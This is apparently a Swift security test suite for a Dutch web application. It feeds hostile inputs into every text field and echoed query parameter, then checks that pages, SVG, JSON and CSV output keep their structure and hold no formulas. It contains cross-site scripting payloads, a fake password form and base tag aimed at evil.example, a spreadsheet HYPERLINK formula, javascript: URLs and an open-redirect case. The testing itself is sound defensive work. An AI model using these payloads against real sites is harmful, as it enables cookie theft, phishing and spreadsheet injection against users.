@testable import App
import Core
import Foundation
import StipTestSupport
import Storage
import Testing
import VaporTesting

/// Everything a person types is hostile: every editable text field of every kind of record holds
/// a payload, every page, form, SVG, CSV and JSON that can show it is rendered, and an
/// independent HTML parser (Python's) must find the same element tree, attribute names and link
/// schemes as with a harmless text of the same length in the same places. Query parameters that
/// pages echo get the same treatment. CSV cells must not start a formula.
@Suite(.serialized) struct HostilePayloadTests {
    /// Both quotes, `<`, `>`, `&`, a closing `</title>`, a `<base>`, a `<form>`, a script, a
    /// `javascript:` URL and entities, short enough for a title.
    static let markup = #"x"'><base href="https://evil.example/"></title><form action=//evil.example><input name=password></form><script>alert(1)</script><a href="javascript:alert(1)">&amp;&lt;"#
    static let payloads: [(name: String, text: String)] = [
        ("markup", markup),
        ("formula", #"=HYPERLINK("https://evil.example","klik")"#),
        ("plus", "+31 43 123 4567"),
        ("at", "@SUM(A1:A9)"),
        ("javascript", "javascript:alert(document.cookie)"),
        ("rtl", "\u{202E}fdp.exe\u{202C} \u{200F}שלום\u{200E} \u{2066}x\u{2069}"),
        ("long", String(repeating: "W", count: 10_000)),
    ]

    @Test(arguments: payloads.map(\.name))
    func noStoredPayloadChangesAPageSVGOrCSV(payload name: String) async throws {
        let payload = try #require(Self.payloads.first { $0.name == name }).text
        let hostile = try await Self.renderEverything(Self.register { payload + " " + $0 })
        let harmless = try await Self.renderEverything(Self.register { Self.harmless(payload) + " " + $0 })
        #expect(hostile.refused == harmless.refused, "a field refused the payload but not a harmless text of its length: \(hostile.refused.subtracting(harmless.refused))")
        #expect(Set(hostile.bodies.keys) == Set(harmless.bodies.keys))
        try Self.expectSameShapes(hostile.bodies, harmless.bodies)
        for (path, body) in hostile.bodies where path.hasSuffix(".csv") { Self.expectNoFormula(body, in: path) }
        // The payload did reach the pages: the test is not comparing two empty walks.
        let shown = hostile.bodies.values.filter { $0.contains(Escaped.html(String(payload.prefix(40)))) || $0.contains(Escaped.attribute(String(payload.prefix(40)))) }
        #expect(hostile.refused.count < 5 ? shown.count >= 30 : true, "the payload shows on only \(shown.count) answers")
    }

    @Test(arguments: payloads.map(\.name))
    func noEchoedQueryParameterChangesAPage(payload name: String) async throws {
        let payload = try #require(Self.payloads.first { $0.name == name }).text
        // Only what means something in markup is replaced: the value stays as valid or invalid for
        // the parameter as the payload is, so the page takes the same branch.
        let harmless = String(payload.map { "<>\"'&".contains($0) ? "x" : $0 })
        try await withStipAccounts { app, accounts in
            let session = try await app.logIn(accounts[.administrator]!.email).cookies
            var hostileBodies: [String: String] = [:], harmlessBodies: [String: String] = [:]
            for (path, parameters) in Self.echoedParameters {
                for parameter in parameters {
                    for cookies in [nil, session] {
                        let key = "\(path)?\(parameter)\(cookies == nil ? "" : "#session")"
                        hostileBodies[key] = try await app.get("\(path)?\(parameter)=\(Escaped.queryValue(payload))", cookies: cookies).body.string
                        harmlessBodies[key] = try await app.get("\(path)?\(parameter)=\(harmless)", cookies: cookies).body.string
                    }
                }
            }
            // Every GET route, every parameter Stip reads anywhere, all at once.
            let all = Self.echoedParameters.flatMap(\.parameters)
            for route in app.routes.all where route.method == .GET {
                let path = RouteWalkTests.path(of: route)
                hostileBodies[path] = try await app.get(path + "?" + all.map { "\($0)=\(Escaped.queryValue(payload))" }.joined(separator: "&"), cookies: session).body.string
                harmlessBodies[path] = try await app.get(path + "?" + all.map { "\($0)=\(harmless)" }.joined(separator: "&"), cookies: session).body.string
            }
            try Self.expectSameShapes(hostileBodies, harmlessBodies)
        }
    }

    /// What people type about themselves: an account's display name (shown to everyone in the
    /// history of what the account changed), an API token's name (on /account and in the audit
    /// trail), and the address typed in a failed login (on the login form again, and to the
    /// regiegroep and the beheerder in the audit trail and its CSV). Each holds the payload; a
    /// display name the account rules refuse is refused by name with nothing stored, and the
    /// longest part of it they take is used instead.
    @Test(arguments: payloads.map(\.name))
    func noAccountNameTokenNameOrLoginAddressChangesAPageOrCSV(payload name: String) async throws {
        let payload = try #require(Self.payloads.first { $0.name == name }).text
        let hostile = try await Self.renderAccountTexts(payload)
        let harmless = try await Self.renderAccountTexts(Self.harmless(payload))
        #expect(Set(hostile.bodies.keys) == Set(harmless.bodies.keys))
        try Self.expectSameShapes(hostile.bodies, harmless.bodies)
        for (path, body) in hostile.bodies where path.hasSuffix(".csv") { Self.expectNoFormula(body, in: path) }
        // The payload did reach the pages that show each text.
        func shows(_ key: String, _ text: String) -> Bool {
            let start = String(text.prefix(40))
            return hostile.bodies[key].map { $0.contains(Escaped.html(start)) || $0.contains(Escaped.attribute(start)) } ?? false
        }
        for page in ["/acties/groene-long-k01#anonymous", "/acties/groene-long-k01"] {
            #expect(shows(page, hostile.displayName), "the display name is not on \(page)")
        }
        #expect(shows("/account#typist", payload) && shows("/rekenschap", payload), "the token's name is not on /account and the audit trail")
        let address = payload.trimmingCharacters(in: .whitespaces).lowercased()
        #expect(shows("/inloggen#failed", payload) && shows("/rekenschap", address), "the typed address is not on the login form and the audit trail")
        // A cell with a quote has it doubled.
        #expect(hostile.bodies["/rekenschap.csv"]?.contains(String(address.prefix(40))) == true || address.contains("\""), "the typed address is not in the CSV")
    }

    struct AccountTexts {
        var bodies: [String: String] = [:]
        /// The display name the account got: the payload, or the longest part of it the rules take.
        var displayName = ""
    }

    /// A regiegroep account named `text` edits an action and makes a token named `text`; someone
    /// fails to log in as `text`. Then every GET route as the beheerder and as a visitor, the API
    /// with the beheerder's token, and the typist's own /account.
    static func renderAccountTexts(_ text: String) async throws -> AccountTexts {
        var rendering = AccountTexts()
        try await withStipAccounts { app, accounts in
            let store = AccountStore(database: try #require(app.storage[TestDatabaseKey.self]))
            let email = "getypt@zuid-limburg.nl"
            var name = text
            do {
                _ = try await AccountCreation.create(email: email, role: .steeringGroup, teams: [], password: testPassword, name: name, in: store, cost: 4)
            } catch let error as AccountInputError {
                // Refused as a display name, in words that say so; no account was made.
                #expect(error == .invalidName(name.trimmingCharacters(in: .whitespacesAndNewlines)) && error.description.contains("cannot be a display name"))
                #expect(try await store.all().allSatisfy { $0.email != email })
                name = String(text.filter { $0 != "@" }.prefix(120))
                _ = try await AccountCreation.create(email: email, role: .steeringGroup, teams: [], password: testPassword, name: name, in: store, cost: 4)
            }
            rendering.displayName = name.trimmingCharacters(in: .whitespacesAndNewlines)

            let typist = try await app.logIn(email).cookies
            let form = try await app.get("/acties/groene-long-k01/bewerken", cookies: typist).body.string
            let version = try #require(form.range(of: #"name="version" value="[0-9]+""#, options: .regularExpression).map {
                String(form[$0].split(separator: "\"")[3])
            })
            #expect(try await app.postForm("/acties/groene-long-k01/bewerken", [
                ("version", version), ("title", "Team Groene Long vormen"), ("status", "running")], cookies: typist).status == .seeOther)
            #expect(try await app.postForm("/account/tokens", [("name", text)], cookies: typist).status == .ok)
            // The token itself differs each time: the page is kept with the token's name in the list only.
            rendering.bodies["/account#typist"] = try await app.get("/account", cookies: typist).body.string

            rendering.bodies["/inloggen#failed"] = try await Self.failedLogin(app, email: text)

            let administrator = try await app.logIn(accounts[.administrator]!.email).cookies
            let token = Secret.token()
            _ = try await store.createAPIToken(accountID: accounts[.administrator]!.id, name: "walk", tokenHash: Secret.fingerprint(token))
            for route in app.routes.all where route.method == .GET {
                let path = RouteWalkTests.path(of: route)
                let isAPI = path.hasPrefix("/api/")
                rendering.bodies[path] = isAPI ? try await app.get(path, bearer: token).body.string : try await app.get(path, cookies: administrator).body.string
                if !isAPI { rendering.bodies[path + "#anonymous"] = try await app.get(path).body.string }
            }
        }
        return rendering
    }

    /// The login form as it comes back after a failed login with `email`.
    static func failedLogin(_ app: Application, email: String) async throws -> String {
        let form = try await app.testing().sendRequest(.GET, "/inloggen")
        let visitor = try #require(form.headers.setCookie?[visitorCookie]?.string)
        let token = try #require(csrfField(in: form.body.string))
        let body = [("email", email), ("password", "niet het wachtwoord"), ("_csrf", token)]
            .map { "\($0.0)=\($0.1.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!)" }.joined(separator: "&")
        let response = try await app.testing().sendRequest(
            .POST, "/inloggen", headers: ["Content-Type": "application/x-www-form-urlencoded", "Cookie": "\(visitorCookie)=\(visitor)"],
            body: ByteBuffer(string: body))
        #expect(response.status == .unauthorized)
        return response.body.string
    }

    @Test func theReportedCasesRenderAsText() async throws {
        try await withStipAccounts { app, _ in
            let login = try await app.get("/inloggen?next=" + Escaped.queryValue(#"/"><base href="https://evil.example/">"#)).body.string
            #expect(!login.contains("<base"))
            #expect(login.contains(#"value="/&quot;&gt;&lt;base"#) || !login.contains("evil.example"))
            let comparison = try await app.get("/monitor/vergelijk?gebieden=" + Escaped.queryValue(#""><base href="https://evil.example/">"#)).body.string
            #expect(!comparison.contains("<base"))
            // `/%09/evil.example` becomes `//evil.example` in a browser: not a path on Stip.
            #expect(LocalPath("/\t/evil.example") == nil && LocalPath("/\\evil.example") == nil && LocalPath("//evil.example") == nil)
            #expect(LocalPath("/acties/x?y=1")?.path == "/acties/x?y=1")
        }
    }

    /// The payload with every character that means something in markup, a URL or a spreadsheet
    /// replaced by a letter: the same length and the same words, so text wraps and is cut alike.
    static func harmless(_ payload: String) -> String {
        String(payload.map { $0.isLetter || $0.isNumber || $0 == " " ? $0 : "x" })
    }

    // MARK: - The walk

    /// Query parameters Stip reads, by a page that reads them.
    static let echoedParameters: [(path: String, parameters: [String])] = [
        ("/inloggen", ["next"]),
        ("/monitor/vergelijk", ["gebieden", "niveau", "jaar"]),
        ("/monitor", ["niveau", "jaar", "kaart", "regio", "legenda", "sorteer"]),
        ("/monitor/focus", FocusQuery.Field.allCases.map(\.rawValue) + ["gewicht-economie"]),
        ("/rekenschap", ["entity", "id", "account", "from", "until"]),
        ("/middelen/inzet/invullen", ["jaar", "activiteit", "partij"]),
        ("/middelen/begroting/realisatie", ["jaar", "post"]),
        ("/doelen", ["opgeslagen", "verwijderd"]),
    ]

    struct Rendering {
        var bodies: [String: String] = [:]
        var refused: Set<String> = []
    }

    /// The plan with every editable text field of every record set to `text(id)`, plus a person
    /// and a membership (the plan names nobody), written through the same editors as the forms.
    static func register(_ text: (String) -> String) -> (Register, Set<String>) {
        var register = SeedPlan.register
        var refused: Set<String> = []
        _ = PersonEditor.write([.name: "Persoon", .organisation: "provincie-limburg"], id: "persoon", into: &register)
        _ = MembershipEditor.write([.person: "persoon", .team: "team-groene-long", .role: "member", .from: "2021-01-01"], id: "lidmaatschap", into: &register)
        for kind in EntityKind.allCases {
            let editor = kind.editor
            let textFields = editor.fields(in: register).filter { field in
                !field.onCreateOnly && (field.kind == .text || field.kind == .longText || field.kind == .lines)
            }
            for id in register.ids(of: kind) {
                guard var values = editor.values(of: id, in: register) else { continue }
                for field in textFields { values[field.name] = text(id) }
                if case let .failure(refusal) = editor.write(values, id: id, into: &register) {
                    refused.formUnion(refusal.problems.keys.map { "\(kind.rawValue).\($0.rawValue)" })
                }
            }
        }
        return (register, refused)
    }

    /// Every GET route as the beheerder (who sees every form), the public pages as a visitor,
    /// the API with a token; each answer kept under its path.
    static func renderEverything(_ populated: (Register, Set<String>)) async throws -> Rendering {
        var rendering = Rendering(refused: populated.1)
        try await withStipAndStore(seeded: false) { app, store in
            try await store.load(populated.0, replacing: false)
            let accounts = AccountStore(database: try #require(app.storage[TestDatabaseKey.self]))
            let administrator = try await AccountCreation.create(
                email: "beheer@zuid-limburg.nl", role: .administrator, teams: [], password: testPassword, in: accounts, cost: 4)
            let session = try await app.logIn(administrator.email).cookies
            let token = Secret.token()
            _ = try await accounts.createAPIToken(accountID: administrator.id, name: "walk", tokenHash: Secret.fingerprint(token))
            let ids = RouteWalkTests.ids.merging(["mensen": "persoon", "people": "persoon", "lidmaatschappen": "lidmaatschap", "memberships": "lidmaatschap"]) { $1 }
            for route in app.routes.all where route.method == .GET {
                let path = RouteWalkTests.path(of: route, ids: ids)
                let isAPI = path.hasPrefix("/api/")
                let answer = isAPI ? try await app.get(path, bearer: token) : try await app.get(path, cookies: session)
                rendering.bodies[path] = answer.body.string
                if !isAPI { rendering.bodies[path + "#anonymous"] = try await app.get(path).body.string }
                if isAPI, answer.headers.contentType?.subType == "json" {
                    #expect((try? JSONSerialization.jsonObject(with: Data(answer.body.string.utf8))) != nil, "\(path) is not JSON")
                }
            }
        }
        return rendering
    }

    static func expectSameShapes(_ hostile: [String: String], _ harmless: [String: String], sourceLocation: SourceLocation = #_sourceLocation) throws {
        let hostileShapes = try shapes(hostile), harmlessShapes = try shapes(harmless)
        for (path, shape) in hostileShapes.sorted(by: { $0.key < $1.key }) {
            for scheme in ["javascript:", "data:", "vbscript:"] where shape.contains("=\(scheme)") {
                Issue.record("\(path): a link with \(scheme)", sourceLocation: sourceLocation)
            }
            guard let expected = harmlessShapes[path] else { continue }
            if shape != expected {
                let difference = zip(shape.split(separator: "\n"), expected.split(separator: "\n")).first { $0 != $1 }
                Issue.record("\(path): the payload changed the element tree: \(difference.map { "\($0.0) instead of \($0.1)" } ?? "different length")",
                             sourceLocation: sourceLocation)
            }
        }
    }

    /// The element trees of HTML and SVG answers, by Python's HTML parser.
    static func shapes(_ bodies: [String: String]) throws -> [String: String] {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("stip-shapes-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        var names: [String: String] = [:]
        for (index, (path, body)) in bodies.enumerated() where body.contains("<") {
            let name = "\(index).html"
            names[name] = path
            try body.write(to: folder.appendingPathComponent(name), atomically: false, encoding: .utf8)
        }
        let (status, data) = try runProjectScript("html_shape.py", [folder.path])
        #expect(status == 0)
        let byFile = try JSONDecoder().decode([String: String].self, from: data)
        return Dictionary(uniqueKeysWithValues: byFile.compactMap { file, shape in names[file].map { ($0, shape) } })
    }

    /// No cell of a CSV answer starts with what a spreadsheet runs as a formula.
    static func expectNoFormula(_ csv: String, in path: String) {
        for cell in cells(csv) {
            guard let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { continue }
            let isNumber = Double(cell.replacingOccurrences(of: ",", with: ".")) != nil
            #expect(isNumber, "\(path): the cell \(cell.prefix(60)) starts a formula")
        }
    }

    /// The cells of an RFC 4180 file, unquoted.
    static func cells(_ csv: String) -> [String] {
        var cells: [String] = [], cell = "", quoted = false, afterQuote = false
        for character in csv {
            if quoted {
                if character == "\"" { quoted = false; afterQuote = true } else { cell.append(character) }
            } else if character == "\"" {
                if afterQuote { cell.append("\"") }
                quoted = true
                afterQuote = false
            } else if character == "," || character == "\n" || character == "\r\n" || character == "\r" {
                cells.append(cell); cell = ""; afterQuote = false
            } else {
                cell.append(character); afterQuote = false
            }
        }
        cells.append(cell)
        return cells
    }
}
